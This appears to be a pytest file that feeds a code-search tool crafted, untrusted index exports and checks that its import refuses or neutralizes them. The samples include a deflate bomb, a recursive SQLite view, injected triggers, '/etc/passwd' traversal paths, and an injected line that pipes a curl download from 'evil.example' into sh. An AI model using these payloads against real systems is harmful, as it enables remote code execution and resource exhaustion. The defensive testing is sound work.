"""An export is someone else's file: crafted exports (their checksums made to match, as an
attacker who edits one makes them) are imported, then searched in a fresh process.

Each case is one that an import before these checks got wrong: a query that segfaulted, a
deflate bomb, a recursive view, code served that the file does not hold, a trigger carried
into the index, a score of 6e37, globs that slowed every query, tracebacks. Every outcome
here is a success that serves only the working tree's text, or one line that names the
member and row at fault.
"""

from __future__ import annotations

import io
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from fixtures.exports import clone, derived_members, git_repo, read_export, store_sql, write_export

from codesearch.api import CodeSearch, import_index
from codesearch.errors import ExportError
from codesearch.store.files import split_lines
from codesearch.types import STORE_FILE

QUERY = "compute mod2_fn1 of x"


@pytest.fixture(scope="module")
def exported(tmp_path_factory, single_vector_dir, colbert_dir):
    """(repo, its export, the derived files an older export of its index would carry, the
    models)."""
    base = tmp_path_factory.mktemp("untrusted")
    repo = git_repo(base / "repo")
    models = {"model": str(single_vector_dir), "multi_model": str(colbert_dir), "device": "cpu"}
    with CodeSearch(repo, **models) as cs:
        cs.index()
        cs.search(QUERY, k=3, mode="hybrid")
        cs.export(base / "index.tar")
    derived = derived_members(repo / ".codesearch")
    assert {"lexical.npz", "centrality.npz"} <= set(derived)
    return repo, base / "index.tar", derived, models


def crafted(exported, tmp_path, *, sql: tuple[str, ...] = (), members: dict | None = None,
            drop: tuple[str, ...] = ()) -> Path:
    """The export with ``sql`` run on its store, ``members`` added or replaced, ``drop`` left out."""
    _, file, _, _ = exported
    doc, found = read_export(file)
    if sql:
        found[STORE_FILE] = store_sql(found[STORE_FILE], *sql)
    found.update(members or {})
    for name in drop:
        found.pop(name)
    return write_export(tmp_path / "crafted.tar", doc, found)


def query(root: Path, text: str, mode: str = "hybrid", *, fresh: bool = False) -> list[dict]:
    """The hits of a search, each of whose text must be the file's own at its lines.
    ``fresh``: ``codesearch query`` in a process of its own, which must end normally (a
    segfault, an abort or a traceback fails the test)."""
    if fresh:
        done = subprocess.run(
            [sys.executable, "-m", "codesearch.cli", "query", text, "-p", str(root), "--mode", mode, "--json",
             "--no-refresh", "--no-server", "-k", "10"],
            capture_output=True, text=True, env=os.environ, timeout=240, check=False,
        )
        assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
        assert "Traceback" not in done.stderr
        hits = json.loads(done.stdout)["results"]
    else:
        with CodeSearch(root, device="cpu") as cs:
            hits = [h.to_dict() for h in cs.search(text, k=10, mode=mode, refresh=False)]
    for hit in hits:
        lines = split_lines((root / hit["path"]).read_text())
        assert "".join(lines[hit["start_line"] - 1 : hit["end_line"]]).rstrip("\n") == hit["text"], hit
    return hits


def refused(file: Path, root: Path, *needles: str) -> str:
    with pytest.raises(ExportError) as err:
        import_index(file, root, device="cpu")
    message = str(err.value)
    assert "\n" not in message, message
    for needle in needles:
        assert needle in message, message
    assert not (root / ".codesearch").exists()
    return message


# -- memory corruption ------------------------------------------------------------------


def test_a_lexical_index_with_offsets_out_of_order_is_never_adopted(exported, tmp_path):
    """An older export's ``lexical.npz`` whose ``indptr`` runs backwards: every query of the
    import segfaulted (exit 139) and ``status`` said complete. The import now builds the
    lexical index from the checked store; the member is read and ignored."""
    _, _, derived, _ = exported
    arrays = dict(np.load(io.BytesIO(derived["lexical.npz"]), allow_pickle=False))
    n = len(arrays["indices"])
    arrays["indptr"] = np.array([0, n, 0, n] + [n] * (len(arrays["indptr"]) - 4), dtype=np.int64)
    bad = io.BytesIO()
    np.savez(bad, **arrays)
    file = crafted(exported, tmp_path, members={**derived, "lexical.npz": bad.getvalue()})
    other = clone(exported[0], tmp_path / "checkout")
    import_index(file, other, device="cpu")
    assert not (other / ".codesearch" / "lexical.npz").exists()
    assert query(other, QUERY, "lexical", fresh=True)


# -- runaway memory ---------------------------------------------------------------------


def _bomb(inflated: int) -> bytes:
    """An ``.npz`` of one deflated member whose header promises ``inflated`` bytes of zeros,
    and holds them (a deflate bomb: ~1000 to 1)."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (inflated,)})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf, \
            zf.open("codes.npy", "w", force_zip64=True) as fh:
        fh.write(head.getvalue())
        block = bytes(1 << 24)
        for _ in range(inflated >> 24):
            fh.write(block)
    return out.getvalue()


def test_a_deflate_bomb_in_the_multi_vector_index_is_never_inflated(exported, tmp_path):
    """A few MB whose PLAID member inflates to 256 MiB (the reported one: 4 GiB at the first
    colbert query). The import reads the export's PLAID index only for its codes, through
    the bounded reader, which refuses the member before inflating it; the index is built
    here, and its file is not the bomb."""
    bomb = _bomb(256 << 20)
    assert len(bomb) < 2 << 20
    # An export of the format before folders: its PLAID index one .npz file.
    _, found = read_export(exported[1])
    file = crafted(exported, tmp_path, members={"plaid/index.npz": bomb},
                   drop=tuple(name for name in found if name.startswith("plaid/")))
    other = clone(exported[0], tmp_path / "checkout")
    import_index(file, other, device="cpu")
    kept = other / ".codesearch" / "plaid" / "index.npz"
    assert not kept.exists() or kept.read_bytes() != bomb
    assert query(other, QUERY, "colbert", fresh=True)


def test_a_store_whose_files_table_is_a_recursive_view_is_refused_at_once(exported, tmp_path):
    """``files`` as an endless recursive view grew an import for 57 s until the memory
    limit. Only tables of this version's schema are read: a view named like one is refused."""
    file = crafted(exported, tmp_path, sql=(
        "DROP TABLE files;"
        "CREATE VIEW files(id, path, hash, size, mtime_ns, language, n_lines) AS"
        " WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r)"
        " SELECT i, 'p' || i, 'h', 1, 1, 'python', 1 FROM r;",
    ))
    refused(file, clone(exported[0], tmp_path / "checkout"), "store.sqlite", "'files' is a view")


# -- stored text is not the code ----------------------------------------------------------


def test_text_the_file_does_not_hold_is_never_served(exported, tmp_path):
    """Before the fix, a chunk's text replaced in the export was served as the file's
    lines. Such a file is chunked again from the working tree: no search finds the text."""
    evil = 'import os\nos.system("curl http://evil.example/x | sh")\n'
    file = crafted(exported, tmp_path, sql=(
        f"UPDATE chunks SET text = '{evil}' WHERE file_id = (SELECT id FROM files WHERE path = 'pkg/mod2.py');",
    ))
    other = clone(exported[0], tmp_path / "checkout")
    summary = import_index(file, other, device="cpu")
    assert summary.run.files_indexed == 1  # that file, from the working tree
    for mode in ("lexical", "hybrid"):
        hits = query(other, "os system curl evil example sh", mode)
        assert not any("evil" in hit["text"] for hit in hits)
    assert any(hit["path"] == "pkg/mod2.py" for hit in query(other, QUERY, "lexical"))


@pytest.mark.parametrize("change", [
    "UPDATE chunks SET end_line = 1000000000000 WHERE id = 3",  # OverflowError at query time
    "UPDATE chunks SET start_byte = start_byte + 1 WHERE id = 2",
    "UPDATE chunks SET header = 'pkg/other.py' WHERE id = 2",
    "UPDATE chunks SET symbol = 'run_evil_payload' WHERE id = 2",
    "UPDATE chunks SET scope = 'class Evil(os.system)' WHERE id = 2",
    "UPDATE chunks SET text_hash = '00000000000000000000000000000000' WHERE id = 2",
    "UPDATE files SET language = 'rust' WHERE id = 2",
])
def test_a_chunk_that_does_not_say_what_the_file_holds_makes_its_file_chunked_again(exported, tmp_path, change):
    file = crafted(exported, tmp_path, sql=(change,))
    other = clone(exported[0], tmp_path / "checkout")
    summary = import_index(file, other, device="cpu")
    assert summary.run.files_indexed == 1
    hits = query(other, "run_evil_payload Evil os system compute mod1_fn1 mod0_fn1", "lexical")
    assert hits and not any("evil" in json.dumps(hit).lower() for hit in hits)
    assert all(hit["end_line"] < 1000 for hit in hits)


def test_triggers_of_the_export_are_never_carried_into_the_index(exported, tmp_path):
    """A trigger ``AFTER UPDATE ON meta`` of the export lived on in the adopted store and
    fired on every run (one kept a ``../../../../etc/passwd`` row in ``files``); one that
    raises made the import a traceback. Rows are copied into a store of this version's own
    schema: no trigger, view or index of the export's survives."""
    passwd = ("INSERT INTO files(path, hash, size, mtime_ns, language, n_lines)"
              " VALUES ('../../../../etc/passwd', 'h', 1, 1, 'text', 1)")
    file = crafted(exported, tmp_path, sql=(
        f"CREATE TRIGGER keep AFTER UPDATE ON meta BEGIN {passwd}; END;",
        f"CREATE TRIGGER keep_insert AFTER INSERT ON meta BEGIN {passwd}; END;",
        "CREATE TRIGGER stop BEFORE DELETE ON chunks BEGIN SELECT RAISE(ABORT, 'no'); END;",
        "CREATE VIEW hits AS SELECT * FROM chunks;",
    ))
    other = clone(exported[0], tmp_path / "checkout")
    import_index(file, other, device="cpu")
    (other / "pkg" / "mod1.py").write_text("def changed():\n    return 1\n")
    with CodeSearch(other, device="cpu") as cs:
        cs.index()  # writes meta, deletes chunks
    store = sqlite3.connect(other / ".codesearch" / STORE_FILE)
    kinds = {kind for (kind,) in store.execute("SELECT type FROM sqlite_master")}
    paths = [p for (p,) in store.execute("SELECT path FROM files")]
    store.close()
    assert kinds <= {"table", "index"}
    assert not any(".." in p for p in paths)


def test_a_centrality_cache_of_huge_scores_is_never_adopted(exported, tmp_path):
    """An older export's ``centrality.npz`` of 1e38 gave a score of 6.3e37 (of NaN: "No
    results"). An import builds no derived file from the export."""
    _, _, derived, _ = exported
    for value in (1e38, np.nan):
        arrays = dict(np.load(io.BytesIO(derived["centrality.npz"]), allow_pickle=False))
        arrays["values"] = np.full_like(arrays["values"], value)
        bad = io.BytesIO()
        np.savez(bad, **arrays)
        file = crafted(exported, tmp_path, members={**derived, "centrality.npz": bad.getvalue()})
        other = clone(exported[0], tmp_path / f"checkout-{value}")
        import_index(file, other, device="cpu")
        hits = query(other, QUERY, "hybrid")
        assert hits and all(0 < hit["score"] < 100 for hit in hits)


@pytest.mark.parametrize("key,value,needle", [
    ("walk.exclude", json.dumps([f"gen{i}/**" for i in range(20_000)]), "meta 'walk.exclude'"),
    ("walk.exclude", json.dumps([f"g{i}" for i in range(300)]), "not a list of at most 256 patterns"),
    ("walk.include", "{", "meta 'walk.include'"),
    ("walk.include", "[" * 100_000, "meta 'walk.include'"),
    ("chunk_tokens", "1e400", "meta 'chunk_tokens'"),
    ("models.disabled", '["dense", "rm -rf"]', "meta 'models.disabled'"),
])
def test_meta_an_index_run_reads_is_checked(exported, tmp_path, key, value, needle):
    """20,000 exclude globs made every later query take 31 s; ``walk.include='{'`` was a
    traceback at import."""
    escaped = value.replace("'", "''")
    file = crafted(exported, tmp_path, sql=(f"INSERT OR REPLACE INTO meta(key, value) VALUES ('{key}', '{escaped}')",))
    refused(file, clone(exported[0], tmp_path / "checkout"), "store.sqlite", needle)


# -- one line, never a traceback ----------------------------------------------------------


def test_a_manifest_nested_past_the_recursion_limit_is_one_line(exported, tmp_path):
    _, file, _, _ = exported
    doc, found = read_export(file)
    bad = write_export(tmp_path / "deep.tar", doc, found, body=b"[" * 100_000)
    refused(bad, clone(exported[0], tmp_path / "checkout"), "damaged", "manifest")


@pytest.mark.parametrize("sql,needle", [
    ("DROP TABLE models", "no table 'models'"),
    ("ALTER TABLE chunks ADD COLUMN extra TEXT", "'chunks' is a table of another schema"),
    ("CREATE VIRTUAL TABLE evil USING fts5(x)", None),  # a table not ours: ignored
    ("PRAGMA user_version = 2", "schema version 2 where this codesearch reads"),
    ("UPDATE vectors SET data = x'0000', seg = NULL WHERE id = (SELECT min(id) FROM vectors WHERE kind = 'dense')",
     "holds 2 bytes"),
    ("UPDATE vectors SET n = 100000 WHERE kind = 'dense'", "rows (a dense vector has 1 to 1)"),
    ("UPDATE vectors SET data = zeroblob(length(data)) WHERE kind = 'dense' AND id = (SELECT min(id) FROM vectors)",
     None),
    # +inf in a half float; and the same bytes as text that is not UTF-8
    ("UPDATE vectors SET data = CAST(x'007c' || substr(data, 3) AS BLOB) WHERE kind = 'dense'", "not finite"),
    ("UPDATE vectors SET data = x'007c' || substr(data, 3) WHERE kind = 'dense'", "cannot be read"),
    ("UPDATE vectors SET model = 'another@1' WHERE kind = 'dense'", "not a vector of a model the export records"),
    ("UPDATE models SET dim = 7 WHERE role = 'dense'", "its models are not the ones its manifest names"),
    ("UPDATE files SET path = '/etc/passwd' WHERE id = 1", "not a path inside a repository"),
    ("UPDATE files SET path = 'pkg/../../../etc/passwd' WHERE id = 1", "not a path inside a repository"),
])
def test_a_store_row_that_is_not_what_its_table_holds_is_one_line(exported, tmp_path, sql, needle):
    file = crafted(exported, tmp_path, sql=(sql,))
    other = clone(exported[0], tmp_path / "checkout")
    if needle is None:
        import_index(file, other, device="cpu")
        assert query(other, QUERY, "hybrid")
    else:
        refused(file, other, "store.sqlite", needle)


@pytest.mark.parametrize("byte", [b"\xc5", b"\x00", b"'"])
def test_a_schema_whose_sql_is_damaged_is_one_line(exported, tmp_path, byte):
    """Found by the fuzz benchmark: a byte of the store's own schema SQL made SQLite's error
    quote that SQL (line breaks and all: a message of 9 lines), or quote bytes that are not
    UTF-8 (a UnicodeDecodeError traceback)."""
    _, file, _, _ = exported
    doc, found = read_export(file)
    data = bytearray(found[STORE_FILE])
    at = data.find(b"end_byte INTEGER NOT NULL")
    data[at + 2 : at + 3] = byte
    found[STORE_FILE] = bytes(data)
    bad = write_export(tmp_path / "schema.tar", doc, found)
    refused(bad, clone(exported[0], tmp_path / "checkout"), "store.sqlite", "cannot be opened")


@pytest.mark.parametrize("seed", range(3))
def test_random_bytes_in_a_page_of_the_store_are_success_or_one_line(exported, tmp_path, seed):
    """A page of the store overwritten with random bytes (checksums made to match)."""
    _, file, _, _ = exported
    doc, found = read_export(file)
    data = bytearray(found[STORE_FILE])
    page = int.from_bytes(data[16:18], "big") or 65536
    rng = np.random.default_rng(seed)
    at = page * int(rng.integers(1, max(2, len(data) // page)))
    data[at : at + page] = rng.integers(0, 256, page, dtype=np.uint8).tobytes()
    found[STORE_FILE] = bytes(data[: len(found[STORE_FILE])])
    bad = write_export(tmp_path / "pages.tar", doc, found)
    other = clone(exported[0], tmp_path / "checkout")
    try:
        import_index(bad, other, device="cpu")
    except ExportError as exc:
        assert "\n" not in str(exc) and "damaged" in str(exc)
        return
    assert query(other, QUERY, "hybrid")


def test_a_non_git_folder_is_not_another_repository_by_absolute_paths(exported, tmp_path):
    """Absolute paths in the store's ``files`` made the check "half of its paths exist here"
    pass in any folder (they exist anywhere): an import went into an unrelated folder."""
    file = crafted(exported, tmp_path, sql=(
        "UPDATE files SET path = '/etc/hostname' WHERE id = 1; UPDATE files SET path = '/etc/passwd' WHERE id = 2;"
        "UPDATE files SET path = '/bin/sh' WHERE id = 3; UPDATE files SET path = '/' WHERE id = 4;",
    ))
    stranger = tmp_path / "stranger"
    (stranger / "src").mkdir(parents=True)
    (stranger / "src" / "other.py").write_text("def other():\n    return 1\n")
    refused(file, stranger, "not a path inside a repository")


# -- what an import takes -----------------------------------------------------------------


def test_an_export_carries_no_derived_file_but_the_multi_vector_index(exported):
    _, file, _, _ = exported
    _, found = read_export(file)
    assert {name.split("/")[0] for name in found} == {STORE_FILE, STORE_FILE + ".vectors", "plaid"}


def test_an_older_export_with_derived_files_imports_as_the_exporter_answers(exported, tmp_path):
    repo, _, derived, models = exported
    file = crafted(exported, tmp_path, members=derived)
    other = clone(repo, tmp_path / "checkout")
    summary = import_index(file, other, device="cpu")
    assert (summary.run.files_indexed, summary.run.chunks_encoded) == (0, 0)
    with CodeSearch(other, **models) as mine, CodeSearch(repo, **models) as theirs:
        for mode in ("lexical", "dense", "colbert", "hybrid"):
            got = [(h.path, h.start_line, round(h.score, 5)) for h in mine.search(QUERY, k=5, mode=mode)]
            assert got == [(h.path, h.start_line, round(h.score, 5)) for h in theirs.search(QUERY, k=5, mode=mode)]


def test_vectors_of_texts_the_index_does_not_hold_are_not_kept(exported, tmp_path):
    """A vector is kept only for a text of the working tree: one under a hash no chunk has
    (the export's word for some other text) goes once the import's run is done."""
    junk = "f" * 32
    file = crafted(exported, tmp_path, sql=(
        "INSERT INTO vectors(model, kind, text_hash, dim, n, data, seg, off, crc)"
        f" SELECT model, kind, '{junk}', dim, n, data, seg, off, crc FROM vectors WHERE kind = 'dense' LIMIT 1",
    ))
    other = clone(exported[0], tmp_path / "checkout")
    import_index(file, other, device="cpu")
    store = sqlite3.connect(other / ".codesearch" / STORE_FILE)
    assert store.execute("SELECT count(*) FROM vectors WHERE text_hash = ?", (junk,)).fetchone()[0] == 0
    store.close()
